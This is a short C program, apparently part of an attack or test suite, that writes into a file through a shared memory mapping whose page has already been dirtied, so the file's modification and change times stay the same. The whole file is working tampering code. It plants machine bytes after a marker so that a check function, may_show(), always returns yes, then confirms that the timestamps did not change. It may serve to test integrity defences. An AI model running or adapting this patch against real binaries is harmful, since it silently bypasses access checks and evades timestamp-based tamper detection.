/*
 * Changes a file while its times stay: through a shared mapping whose page is dirty already.
 *
 *   poison FILE MARK      says "dirty"; at a line of input it writes behind the mark that may_show() says yes, and says
 *                         "written", or what does not let it
 */
#include "attack.h"
#include <sys/stat.h>

static int same(struct timespec a, struct timespec b)
{
    return a.tv_sec == b.tv_sec && a.tv_nsec == b.tv_nsec;
}

int main(int argc, char **argv)
{
    static const char showing[] = "\xb8\x01\x00\x00\x00\xc3"; /* mov $1, %eax; ret */
    struct stat before, after;
    int fd = open(argv[1], O_RDWR | O_CLOEXEC);
    if (argc != 3 || fd < 0 || fstat(fd, &before) != 0)
        fail("open");
    size_t length = (size_t)before.st_size;
    char *bytes = mmap(NULL, length, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    char *place = bytes == MAP_FAILED ? NULL : memmem(bytes, length, argv[2], strlen(argv[2]));
    if (!place)
        fail("mmap");
    place += strlen(argv[2]);
    *(volatile char *)place = *place;
    fstat(fd, &before);
    puts("dirty");
    fflush(stdout);
    (void)!read(0, &(char){0}, 1);
    memcpy(place, showing, sizeof showing - 1);
    fstat(fd, &after);
    munmap(bytes, length);
    puts(same(before.st_mtim, after.st_mtim) && same(before.st_ctim, after.st_ctim) ? "written" : "the times changed");
    return 0;
}
